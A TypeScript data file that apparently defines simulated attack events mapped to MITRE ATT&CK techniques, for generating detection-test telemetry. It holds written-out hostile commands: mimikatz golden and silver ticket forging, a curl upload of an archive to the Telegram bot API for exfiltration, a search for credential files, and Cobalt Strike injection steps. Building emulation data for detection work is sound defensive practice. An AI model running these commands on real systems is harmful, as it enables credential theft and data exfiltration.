import { v } from "../dsl";
import type { Variant } from "../types";

/**
 * Cobalt Strike fork&run: the beacon spawns its sacrificial process (spawnto), injects the job, the job talks
 * back over a pipe. `remoteThread`: the profile's execute method is CreateRemoteThread; with SetThreadContext
 * (thread hijack) or NtQueueApcThread-s (APC into the suspended child) no remote thread is created.
 */
const forkRun = (name: string, remoteThread: boolean) =>
  v(
    name,
    [
      {
        cmd: "rundll32.exe {{appdata}}\\{{rand}}.dll,StartW",
        as: "beacon",
        parent: "@explorer",
        net: [["{{c2}}", 443]],
        keep: true,
      },
      { cmd: "C:\\Windows\\system32\\{{spawnto}}", as: "sac", parent: "beacon", keep: true },
      remoteThread
        ? { by: "beacon", access: ["sac", "0x1fffff"], thread: "sac" }
        : { by: "beacon", access: ["sac", "0x1fffff"] },
      { by: "sac", pipes: ["\\postex_{{rand}}"] },
      { by: "beacon", pipeConnects: ["\\postex_{{rand}}"] },
    ],
    { shell: "none" },
  );
const forkRunThread = forkRun("cobalt-strike-fork-run", true);

const OTM = v(
  "outlook-vbaproject",
  [
    {
      cmd: '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" ',
      parent: "@explorer",
      files: ["{{appdata}}\\Microsoft\\Outlook\\VbaProject.OTM"],
    },
  ],
  { shell: "none" },
);

/** Extra named-tool variants (see ../extras.ts): injection jobs, ticket files, Outlook macros. */
export const extrasF: Readonly<Record<string, readonly Variant[]>> = {
  "T1055.002": [
    forkRunThread,
    // A loader that rewrites explorer's memory; the injected explorer then starts a thread in svchost.
    v("explorer-thread", [
      { cmd: "{{tmp}}\\{{name}}.exe", as: "l", access: ["@explorer", "0x1fffff"] },
      { by: "@explorer", thread: "@svchost:netsvcs" },
    ]),
  ],
  "T1055.003": [forkRun("cobalt-strike-setthreadcontext", false)],
  "T1055.004": [forkRun("cobalt-strike-apc", false)],
  "T1055.005": [forkRunThread],
  "T1055.011": [forkRunThread],
  "T1055.015": [forkRunThread],
  "T1558.001": [
    v("mimikatz-golden-kirbi", [
      {
        cmd: '{{tools}}\\mimikatz.exe "kerberos::golden /user:{{admin}} /domain:{{dns}} /sid:S-1-5-21-{{n}} /krbtgt:{{rand2}}{{rand2}}{{rand2}}{{rand2}} /ticket:{{tools}}\\golden.kirbi" exit',
        files: ["{{tools}}\\golden.kirbi"],
      },
    ]),
  ],
  "T1558.002": [
    v("mimikatz-silver-kirbi", [
      {
        cmd: '{{tools}}\\mimikatz.exe "kerberos::golden /user:{{admin}} /domain:{{dns}} /sid:S-1-5-21-{{n}} /target:{{srvfqdn}} /service:cifs /rc4:{{rand2}}{{rand2}}{{rand2}}{{rand2}} /ticket:{{tools}}\\silver.kirbi" exit',
        files: ["{{tools}}\\silver.kirbi"],
      },
    ]),
  ],
  "T1137.001": [OTM],
  "T1137.005": [OTM],
  "T1564.010": [
    v("public-loader-spoof", [
      { cmd: "C:\\Users\\Public\\{{name}}.exe", as: "l" },
      { cmd: 'C:\\Windows\\System32\\cmd.exe /c "echo this is fine"', parent: "l" },
    ]),
  ],
  "T1566.002": [
    v(
      "link-onenote",
      [
        { by: "@msedge", files: ["{{downloads}}\\Scan_{{n}}.one"], net: [["{{c2}}", 443]] },
        {
          cmd: '"C:\\Program Files\\Microsoft Office\\root\\Office16\\ONENOTE.EXE" /hyperlink "{{downloads}}\\Scan_{{n}}.one"',
          as: "on",
          parent: "@explorer",
        },
        { cmd: "C:\\Windows\\System32\\cmd.exe /c {{tmp}}\\OneNote\\16.0\\Exported\\open.cmd", parent: "on" },
      ],
      { shell: "none" },
    ),
  ],
  "T1567.004": [
    v("telegram-senddocument", [
      {
        cmd: 'curl.exe -F chat_id={{n}} -F document=@"{{tmp}}\\{{rand}}.zip" https://api.telegram.org/bot{{n}}:{{rand2}}/sendDocument',
        net: [["api.telegram.org", 443]],
      },
    ]),
  ],
  "T1222.001": [
    v(
      "fsutil-symlink-eval",
      [
        'cmd.exe /c "fsutil behavior set SymlinkEvaluation R2L:1 R2R:1"',
        { cmd: "fsutil  behavior set SymlinkEvaluation R2L:1 R2R:1", parent: "prev" },
      ],
      { elevated: true },
    ),
  ],
  "T1560.001": [
    v("tar", [
      {
        cmd: "tar.exe -czf C:\\ProgramData\\{{rand}}.tgz -C {{home}}\\Documents .",
        files: ["C:\\ProgramData\\{{rand}}.tgz"],
      },
    ]),
  ],
  T1083: [
    v(
      "sensitive-file-search",
      [
        {
          ps: "Get-ChildItem -Path C:\\Users -Recurse -Include *.kdbx,*.pass,*.config -ErrorAction SilentlyContinue | Select-Object FullName",
        },
      ],
      { shell: "ps" },
    ),
  ],
};
